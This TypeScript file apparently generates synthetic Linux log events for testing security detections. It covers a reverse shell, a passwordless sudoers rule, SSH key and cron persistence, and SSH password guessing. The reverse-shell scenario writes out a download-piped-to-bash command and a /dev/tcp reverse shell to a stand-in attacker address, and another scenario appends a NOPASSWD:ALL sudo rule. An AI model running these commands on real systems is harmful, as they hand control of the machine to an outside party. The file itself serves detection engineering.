import { authLine, execRecords, type LinuxHost, pathRecords } from '../linux-lines.js';
import type { Entry } from '../logs.js';
import type { Scenario, Stage } from '../scenario.js';

const WEB: LinuxHost = { name: 'web-02', ip: '10.20.30.12' };
const ATTACKER = '203.0.113.61';

type About = Pick<Scenario, 'name' | 'title' | 'techniques' | 'detections' | 'logs'>;

function onLinux(about: About, act: (at: (seconds: number) => number, stage: Stage) => readonly Entry[]): Scenario {
  return { ...about, play: (stage) => act((seconds) => stage.from + 900_000 + seconds * 1_000, stage) };
}

export const LINUX: readonly Scenario[] = [
  onLinux(
    {
      name: 'reverse-shell',
      title: 'A shell that is connected to a machine of the attacker',
      techniques: ['T1059.004'],
      detections: ['Linux Reverse Shell', 'Linux Download Piped to Shell'],
      logs: ['auditd'],
    },
    (at) => [
      ...execRecords(WEB, at(0), 'www-data', ['sh', '-c', `curl -s http://${ATTACKER}/i.sh | bash`]),
      ...execRecords(WEB, at(3), 'www-data', ['bash', '-c', `bash -i >& /dev/tcp/${ATTACKER}/4444 0>&1`]),
    ],
  ),
  onLinux(
    {
      name: 'sudoers-change',
      title: 'A rule that asks for no password is added to sudo',
      techniques: ['T1548.003'],
      detections: ['Linux Sudo Rule Without Password'],
      logs: ['auditd'],
    },
    (at) => [
      ...execRecords(WEB, at(0), 'root', [
        'sh',
        '-c',
        'echo "deploy ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers.d/90-deploy',
      ]),
      ...pathRecords(WEB, at(1), 'root', '/etc/sudoers.d/90-deploy', 'sh', 'CREATE'),
    ],
  ),
  onLinux(
    {
      name: 'ssh-keys-and-cron',
      title: 'A web server plants a key and a cron job',
      techniques: ['T1098.004', 'T1053.003'],
      detections: ['Linux Persistence File Written by Unusual Program'],
      logs: ['auditd'],
    },
    (at) => [
      ...pathRecords(WEB, at(0), 'root', '/root/.ssh/authorized_keys', 'bash', 'CREATE'),
      ...pathRecords(WEB, at(9), 'root', '/etc/cron.d/sysupdate', 'bash', 'CREATE'),
    ],
  ),
  onLinux(
    {
      name: 'ssh-guessing',
      title: 'Passwords are tried over SSH until one fits',
      techniques: ['T1110.001', 'T1021.004'],
      detections: ['SSH Login After Many Failures'],
      logs: ['auth'],
    },
    (at) => [
      ...Array.from({ length: 25 }, (_, i) =>
        authLine(
          WEB,
          at(i * 3),
          'sshd',
          4100 + i,
          `Failed password for deploy from 198.51.100.77 port ${41000 + i} ssh2`,
        ),
      ),
      authLine(WEB, at(80), 'sshd', 4130, 'Accepted password for deploy from 198.51.100.77 port 41099 ssh2'),
    ],
  ),
];
